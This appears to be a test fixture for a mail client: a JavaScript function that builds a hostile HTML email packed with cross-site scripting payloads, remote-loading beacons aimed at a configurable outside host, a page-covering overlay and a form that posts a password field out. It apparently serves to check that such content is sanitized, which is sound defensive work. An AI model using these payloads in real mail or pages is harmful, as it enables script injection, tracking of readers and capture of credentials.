// SPDX-License-Identifier: Apache-2.0
// A mail that tries what such mails try.

/** Everything here wants to run, to tell {@code elsewhere} that it was read, or to cover the page around it. */
export function hostile(elsewhere) {
    const take = name => `try{parent.taken='${name}'}catch(e){};try{top.taken='${name}'}catch(e){};new Image().src='${elsewhere}/script-${name}'`;
    return `From: "<script>top.taken='from'</script>" <eve@example.org>
To: bob@example.org
Subject: <img src=x onerror="top.taken='subject'">
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<base href="${elsewhere}/" target="_top">
<link rel="stylesheet" href="${elsewhere}/style.css"><link rel="prefetch" href="${elsewhere}/prefetch">
<link rel="preload" as="image" href="${elsewhere}/preload"><link rel="dns-prefetch" href="${elsewhere}">
<style>@import url("${elsewhere}/import.css");
@font-face{font-family:x;src:url("${elsewhere}/font.woff2")}
html,body{font-family:x;background:url("${elsewhere}/background.png")}
.cover{position:fixed;inset:-2000px;width:9000px;height:9000px;background:rgba(200,0,0,.15);z-index:2147483647;pointer-events:none}
#search,.bar,.list,.row{display:none!important}</style>
<script>${take('head')}</script><script src="${elsewhere}/script.js"></script>
</head><body onload="${take('onload')}" background="${elsewhere}/body.png">
<p>this is the hostile mail</p>
<div class="cover"></div>
<img src="${elsewhere}/remote.png" width="1" height="1"><img src="x" onerror="${take('onerror')}">
<picture><source srcset="${elsewhere}/source.png"><img src="data:,"></picture>
<svg onload="${take('svg')}"><script>${take('svgscript')}</script><image href="${elsewhere}/svg.png"/></svg>
<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>${take('srcdoc')}</script>"></iframe>
<object data="${elsewhere}/frame-object"></object><embed src="${elsewhere}/frame-embed">
<video src="${elsewhere}/video" poster="${elsewhere}/poster" autoplay></video>
<form action="${elsewhere}/form" method="post"><input name="password" value="secret" autofocus onfocus="${take('focus')}"><button style="position:relative;z-index:9">go</button></form>
<a href="javascript:${take('link')}" id="link">click here</a><a ping="${elsewhere}/xhr-ping" href="#x">ping</a>
<details open ontoggle="${take('toggle')}"><summary>x</summary></details>
</body></html>`.replaceAll('`', '');
}
